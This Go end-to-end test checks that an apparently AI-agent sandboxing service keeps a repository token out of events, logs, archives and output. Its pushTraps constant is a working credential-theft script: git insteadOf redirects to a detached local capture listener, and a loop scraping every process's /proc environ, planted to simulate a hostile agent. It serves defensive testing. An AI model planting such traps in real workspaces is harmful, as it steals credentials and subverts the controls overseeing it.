package e2e_test

import (
	"archive/tar"
	"bytes"
	"compress/gzip"
	"encoding/base64"
	"fmt"
	"io"
	"os"
	"os/exec"
	"strings"
	"testing"
	"time"

	"github.com/drydockhq/drydock"
	"github.com/drydockhq/drydock/gittest"
	"github.com/drydockhq/drydock/runtime/runtimetest"
	"github.com/drydockhq/drydock/toolbox"
)

// A job scheduled with the CLI's --repo starts in a Docker sandbox from a
// clone of a private repository: git runs in the sandbox, through the
// egress proxy (the job's own list is empty: the repository's host and
// port are allowed for it), and authenticates with the job's secret. The
// token then is in none of the job's events, the server's log (at debug
// level), the archive or its .git/config, and the CLI's output. Once the
// job completes, its changes are pushed to a drydock/ branch, although the
// agent's side planted what would steer the push elsewhere or read git's
// environment (pushTraps).
func TestJobStartsFromARepositoryInASandbox(t *testing.T) {
	t.Parallel()
	for _, e := range engines() {
		t.Run(e.name, func(t *testing.T) {
			t.Parallel()
			host := os.Getenv(e.env)
			if host == "" {
				t.Skipf("%s not set: no %s engine to run sandboxes on (make test starts one)", e.env, e.name)
			}
			repoJobInASandbox(t, e.name, host)
		})
	}
}

func repoJobInASandbox(t *testing.T, engine, host string) {
	img := runtimetest.CurrentImage(t, host)
	token := "e2e-repo-token-" + fmt.Sprint(os.Getpid()) + "-5d1c"
	// 127.0.0.2: inside the sandbox only the proxy leads there.
	git := gittest.New(t, gittest.Options{Addr: "127.0.0.2:0", Token: token})

	node := fmt.Sprintf("e2e-repo-%s-%d", engine, os.Getpid())
	s := newServer(t, "--node-id", node, "--egress-private", "127.0.0.2/32", "--log-level", "debug")
	t.Cleanup(func() { destroyByServer(t, host, node) })
	for i, arg := range s.args {
		if arg == "local" && s.args[i-1] == "--runtime" {
			s.args[i] = "docker"
		}
	}
	s.args = append(s.args, "--docker-host", host, "--image-headless", img)
	s.start()

	cmd := exec.Command(binary, "schedule", "Look at the code [fake:steps=2] [fake:delay=3s]", "--secret", "GIT_TOKEN",
		"--repo", git.URL+"@feature/x", "--repo-secret", "GIT_TOKEN", "--repo-push", "drydock/e2e")
	cmd.Env = append(os.Environ(), "DRYDOCK_URL="+s.url(), "GIT_TOKEN="+token)
	var stderr bytes.Buffer
	cmd.Stderr = &stderr
	cliOut, err := cmd.Output()
	if err != nil {
		t.Fatalf("drydock schedule --repo: %v\n%s%s\n%s", err, cliOut, stderr.Bytes(), s.logs)
	}
	id := strings.TrimSpace(string(cliOut))
	cliOut = append(cliOut, stderr.Bytes()...)
	plantPushTraps(t, host, node, id, git.URL, s)
	j, _ := s.waitTerminal(id, 3*time.Minute)
	if j.Status != "complete" || j.Repo == nil || j.Repo.Ref != "feature/x" || len(j.Egress) != 0 {
		t.Fatalf("job: %s %q repo %+v egress %v\n%s", j.Status, j.Error, j.Repo, j.Egress, s.logs)
	}

	// The fake agent's files were committed on the branch and pushed.
	out, err := exec.Command("git", "--git-dir", git.Dir, "log", "-1", "--format=%H %P", "refs/heads/drydock/e2e").CombinedOutput()
	if err != nil || string(out) != j.PushedCommit+" "+git.Commits["feature/x"]+"\n" || j.PushedCommit == "" {
		t.Errorf("pushed branch: %v %q; the job shows %q", err, out, j.PushedCommit)
	}

	code, gz := s.do("GET", "/v1/jobs/"+id+"/artifact.tar.gz", "", "")
	if code != 200 {
		t.Fatalf("archive: %d", code)
	}
	zr, err := gzip.NewReader(bytes.NewReader(gz))
	if err != nil {
		t.Fatal(err)
	}
	raw, err := io.ReadAll(zr)
	if err != nil {
		t.Fatal(err)
	}
	files := map[string]string{}
	tr := tar.NewReader(bytes.NewReader(raw))
	for {
		h, err := tr.Next()
		if err == io.EOF {
			break
		}
		if err != nil {
			t.Fatal(err)
		}
		b, _ := io.ReadAll(tr)
		files[strings.TrimPrefix(h.Name, "./")] = string(b)
	}
	if files["feature.txt"] != "feature\n" || files["README.md"] != "# project\n" {
		t.Errorf("the archive lacks the branch's files: %v", keys(files))
	}
	if !strings.Contains(files["environ.txt"], "watching") || !strings.Contains(files[".git/config"], "insteadOf") {
		t.Errorf("the traps were not in place: environ.txt %q, files %v, .git/config %q", files["environ.txt"], keys(files), files[".git/config"])
	}
	if cfg := files[".git/config"]; !strings.Contains(cfg, "url = "+git.URL+"\n") {
		t.Errorf(".git/config:\n%s", cfg)
	}

	var evs strings.Builder
	for _, e := range s.events(id) {
		evs.Write(e.Data)
		evs.WriteString("\n")
	}
	if !strings.Contains(evs.String(), "The workspace holds a clone of "+git.URL+" at feature/x (commit "+git.Commits["feature/x"]+")") {
		t.Errorf("no event names the clone:\n%s", evs.String())
	}
	sent := false
	b64 := base64.StdEncoding.EncodeToString([]byte("x-access-token:" + token))
	for _, a := range git.Authorizations() {
		sent = sent || a == "Basic "+b64
	}
	if !sent {
		t.Errorf("the git server never received the token: %q", git.Authorizations())
	}
	for where, text := range map[string]string{"events": evs.String(), "server log": s.logs.String(), "archive": string(raw), "CLI output": string(cliOut)} {
		for _, leak := range []string{token, b64} {
			if strings.Contains(text, leak) {
				t.Errorf("the token (%s) is in the %s", leak, where)
			}
		}
	}
}

// pushTraps is what an agent could leave behind to get a repository's
// token at push time: a listener on 127.0.0.1:9999 that saves what it is
// sent, url.insteadOf rules (repository and user configuration) that send
// the repository's URL there without a proxy, and a process that copies
// the environment of every process it can read into the workspace.
const pushTraps = `set -e
printf '[url "http://127.0.0.1:9999/"]\n\tinsteadOf = %s\n[http]\n\tproxy =\n' "$REPO_URL" >>.git/config
printf '[url "http://127.0.0.1:9999/"]\n\tinsteadOf = %s\n' "$REPO_URL" >~/.gitconfig
setsid nohup python3 -c '
import socket
s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1); s.bind(("127.0.0.1", 9999)); s.listen(8)
while True:
    c, _ = s.accept(); c.settimeout(2)
    try:
        d = c.recv(65536)
    except Exception:
        d = b""
    open("/workspace/captured.txt", "ab").write(d); c.close()
' >/dev/null 2>&1 &
setsid nohup sh -c 'echo watching >/workspace/environ.txt; while :; do for f in /proc/[0-9]*/environ; do tr "\0" "\n" <"$f" 2>/dev/null | grep -a GIT_CONFIG_VALUE >>/workspace/environ.txt || true; done; done' >/dev/null 2>&1 &
# toolboxd ends the command's process group when it returns: wait until
# both have left it (setsid) and run.
for i in $(seq 100); do
	[ -s environ.txt ] && python3 -c 'import socket; socket.create_connection(("127.0.0.1", 9999)).close()' 2>/dev/null && break
	sleep 0.1
done
echo planted`

// plantPushTraps waits for the job's clone and plants pushTraps in its
// sandbox through toolboxd, as the agent's commands run.
func plantPushTraps(t *testing.T, host, node, id, repoURL string, s *server) {
	t.Helper()
	rt := engineRuntime(t, host)
	for deadline := time.Now().Add(2 * time.Minute); ; time.Sleep(200 * time.Millisecond) {
		if time.Now().After(deadline) {
			t.Fatalf("job %s: no sandbox with a clone in time\n%s", id, s.logs)
		}
		sbs, err := rt.List(t.Context(), map[string]string{drydock.LabelServer: node, drydock.LabelJob: id})
		if err != nil || len(sbs) != 1 || sbs[0].State != drydock.SandboxRunning {
			continue
		}
		sb := jobSandbox(t, rt, node, id)
		tb := toolbox.New(sb.Endpoint, sb.Token)
		var out bytes.Buffer
		res, err := tb.Exec(t.Context(), toolbox.ExecRequest{Command: "test -f .git/HEAD && test -f README.md"}, &out, &out)
		if err != nil || res.ExitCode != 0 {
			tb.Close()
			continue
		}
		out.Reset()
		res, err = tb.Exec(t.Context(), toolbox.ExecRequest{Command: pushTraps, Env: map[string]string{"REPO_URL": repoURL}}, &out, &out)
		tb.Close()
		if err != nil || res.ExitCode != 0 || !strings.Contains(out.String(), "planted") {
			t.Fatalf("planting the traps: %v %+v %q", err, res, out.String())
		}
		return
	}
}
